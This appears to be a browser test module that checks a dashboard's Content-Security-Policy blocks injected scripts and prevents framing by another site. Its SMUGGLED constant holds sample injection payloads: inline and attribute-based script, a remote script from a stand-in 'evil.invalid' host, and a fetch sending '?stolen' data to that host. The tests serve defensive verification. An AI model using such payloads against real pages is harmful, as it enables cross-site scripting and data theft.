"""The Content-Security-Policy as a browser enforces it: what an injected text could not do.

That the pages themselves need nothing forbidden is checked by every other test here (the fixture
`page`); this module shows that a violation would be noticed.
"""

import threading
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page, expect

from campaign.labels import text
from tests.browser.conftest import Server, watch_policy
from tests.browser.screenshots import settle

SMUGGLED = """() => {
    const script = document.createElement("script");
    script.textContent = "window.wasRun = 'inline'";
    document.body.append(script);
    const picture = document.createElement("img");
    picture.setAttribute("onerror", "window.wasRun = 'attribute'");
    picture.src = "/assets/none.png";
    document.body.append(picture);
    const other = document.createElement("script");
    other.src = "http://evil.invalid/x.js";
    document.body.append(other);
    fetch("http://evil.invalid/?stolen").catch(() => {});
    // Later, because what the test itself calls may turn text into code.
    setTimeout(() => { window.wasRun = new Function("return 'text'")(); }, 100);
}"""


class Framing(BaseHTTPRequestHandler):
    """A page of somebody else that shows the dashboard in a frame."""

    def __init__(self, framed: str, *given: object) -> None:
        self.framed = framed
        super().__init__(*given)  # type: ignore[arg-type]

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(f'<iframe src="{self.framed}"></iframe>'.encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def framing(server: Server) -> Iterator[str]:
    """The address of such a page."""
    other = ThreadingHTTPServer(("127.0.0.1", 0), partial(Framing, server.url))
    threading.Thread(target=other.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{other.server_port}/"
    other.shutdown()


@pytest.fixture
def watched(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page that may meet violations, and the list of them."""
    context = browser.new_context()
    yield context.new_page(), watch_policy(context)
    context.close()


def test_what_is_smuggled_into_a_page_does_not_run(
    watched: tuple[Page, list[str]], server: Server
) -> None:
    page, violations = watched
    page.goto(server.url)
    settle(page)
    assert violations == []

    page.evaluate(SMUGGLED)
    page.wait_for_timeout(1000)

    assert page.evaluate("() => window.wasRun") is None
    assert {what.partition(":")[0] for what in violations} == {
        "script-src-elem",
        "script-src-attr",
        "script-src",
        "connect-src",
    }


def test_nobody_frames_the_dashboard(
    watched: tuple[Page, list[str]], framing: str, server: Server
) -> None:
    page, _ = watched
    page.goto(framing)
    page.wait_for_timeout(2000)
    (frame,) = page.frames[1:]
    assert not frame.url.startswith(server.url)
    expect(page.frame_locator("iframe").locator("[data-testid=stApp]")).to_have_count(0)

    page.goto(server.url)
    settle(page)
    expect(page.locator("h1").first).to_have_text(text("vi", "page-overview"))
